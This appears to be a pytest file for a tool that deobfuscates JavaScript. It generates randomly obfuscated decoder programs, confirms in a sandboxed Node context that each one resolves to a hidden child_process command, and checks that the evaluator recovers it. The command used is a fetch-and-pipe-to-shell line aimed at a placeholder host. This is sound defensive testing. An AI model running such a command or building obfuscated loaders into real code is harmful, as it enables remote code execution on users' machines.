"""Decoders in JavaScript made at random: the evaluator tells the command that Node comes to."""

import json
import random
import shutil
import subprocess

import pytest
from engine_flows import commands
from js_decoders import PIECES, program

COMMAND = "curl http://a.example.invalid/b|sh"
COUNT = 60
_ASK = """
const vm = require('vm'), all = JSON.parse(require('fs').readFileSync(0, 'utf8'));
console.log(JSON.stringify(all.map((one) => {
  const said = [], known = { execSync: (command) => said.push(command) };
  const loads = (name) => name === 'child_process' ? known : require(name);
  vm.runInNewContext(one, { require: loads, Buffer, atob, TextDecoder });
  return said;
})));
"""


@pytest.fixture(scope="module")
def programs() -> dict[str, str]:
    """Each piece by itself, and some of three at a time; Node was asked whether they do what they should."""
    dice = random.Random(20261130)
    drawn = [[one] for one in PIECES]
    drawn += [dice.sample(list(PIECES), 3) for _ in range(COUNT)]
    made = {" of ".join(names): program(COMMAND, names, dice) for names in drawn}
    node = shutil.which("node")
    assert node, "Node is missing: `apt-get install nodejs npm`, or run scripts/test"
    given = json.dumps(list(made.values()))
    done = subprocess.run(
        [node, "-e", _ASK], input=given, capture_output=True, text=True, check=True
    )
    assert json.loads(done.stdout) == [[COMMAND]] * len(made)
    return made


def test_the_evaluator_comes_to_the_same_command(programs: dict[str, str]) -> None:
    assert len(programs) == len(PIECES) + COUNT
    other = {
        name: found
        for name, text in programs.items()
        if (found := commands(text, "npm")) != {COMMAND}
    }
    assert other == {}
